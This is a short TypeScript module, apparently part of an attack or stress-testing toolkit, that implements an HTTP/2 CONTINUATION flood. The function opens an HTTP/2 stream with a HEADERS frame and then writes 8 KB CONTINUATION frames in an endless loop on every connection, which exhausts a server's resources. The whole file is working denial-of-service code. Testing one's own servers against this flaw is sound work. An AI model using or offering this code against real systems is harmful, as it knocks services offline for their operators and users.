import { type AttackOptions, onEachConnection, write } from "./attack.ts";
import { field, frame, frameType, preface, requestFields } from "./http2-frames.ts";

/** Starts a header block and continues it endlessly. */
export function http2ContinuationFlood(options: AttackOptions): Promise<void> {
  const request = requestFields("GET", options.path ?? "/mutate");
  const more = frame(frameType.continuation, 0, 1, field("x", "x".repeat(8192)));
  return onEachConnection(
    options,
    async (socket) => {
      await write(socket, Buffer.concat([preface, frame(frameType.headers, 0, 1, request)]));
      while (await write(socket, more));
    },
    { protocol: "h2" },
  );
}
